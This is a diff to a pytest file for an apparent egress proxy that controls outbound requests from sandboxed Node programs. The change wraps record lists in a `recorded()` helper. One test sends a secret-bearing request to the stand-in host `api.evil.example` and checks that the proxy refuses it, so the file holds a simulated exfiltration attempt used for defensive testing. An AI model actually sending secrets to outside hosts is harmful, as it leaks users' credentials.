@@ -6,7 +6,7 @@ from itertools import cycle
 from typing import TYPE_CHECKING
 
 import pytest
-from support.front import SECRET, calling, clean_environment, form, scene, told
+from support.front import SECRET, calling, clean_environment, form, recorded, scene, told
 
 from ddoauth_kit.grading.front.records import Treatment
 
@@ -40,7 +40,7 @@ def test_datadogs_names_lead_to_the_sandbox(
         *calling(client, nodes=nodes), f"https://{host}{USER}", environment=environment
     )
     assert said.endswith("401"), said
-    (seen,) = behind.records
+    (seen,) = recorded(behind.records)
     assert (seen.treatment, seen.host, seen.site, seen.role) == ("forwarded", host, site, "api")
     assert (seen.method, seen.path, seen.status) == ("GET", USER, 401)
     assert (behind.sandbox.journal[-1].site, behind.sandbox.journal[-1].path) == (site, USER)
@@ -58,7 +58,7 @@ def test_a_secret_for_another_host_is_stopped(
         *command, "https://api.evil.example/token?code=c0de", *pairs, environment=environment
     )
     assert said.endswith("403"), said
-    (seen,) = behind.records
+    (seen,) = recorded(behind.records)
     assert (seen.treatment, seen.host, seen.reason) == (
         "refused",
         "api.evil.example",
@@ -93,7 +93,7 @@ def test_an_allowed_host_is_reached_unread(
         command = calling(client, nodes=nodes)
         said = made.run(*command, "https://shop.example/", environment=environment)
         assert said.endswith("200"), said
-        (seen,) = made.records
+        (seen,) = recorded(made.records)
         assert (seen.treatment, seen.host, seen.path) == (Treatment.TUNNELLED, "shop.example", "")
     assert shop.asked[-1].startswith("CONNECT shop.example:443 HTTP/1.1\r\n")
     assert "Proxy-Authorization: Basic YWRhOndvcmQ=\r\n" in shop.asked[-1]
@@ -117,7 +117,7 @@ def test_a_node_program_that_insists_on_http2_is_named(
     command = calling(f"http2@{version}", nodes=nodes)
     said = behind.run(*command, "https://api.datadoghq.com/")
     assert said == "closed" or said.startswith("ERR_"), said
-    (seen,) = behind.records
+    (seen,) = recorded(behind.records)
     assert (seen.reason, seen.host) == ("http2_only", "api.datadoghq.com")
 
 
@@ -128,7 +128,7 @@ def test_a_node_connection_to_another_machine_meets_the_front(
     """The advice for a database driver is to allow its host; nothing is sent there."""
     command = calling(f"net@{version}", nodes=nodes)
     assert behind.run(*command, "tcp://db.example:5432") == "closed"
-    (seen,) = behind.records
+    (seen,) = recorded(behind.records)
     assert (seen.reason, seen.host, seen.port) == ("no_http", "db.example", 5432)
     assert seen.line.endswith("--allow db.example.")
 
@@ -140,5 +140,5 @@ def test_a_node_program_by_plain_http_is_told_to_use_https(
     before = len(behind.sandbox.journal)
     said = behind.run(*calling("https@", nodes=nodes), "http://api.datadoghq.com/")
     assert said == "403"
-    assert [seen.reason for seen in behind.records] == ["plain_http"]
+    assert [seen.reason for seen in recorded(behind.records)] == ["plain_http"]
     assert len(behind.sandbox.journal) == before
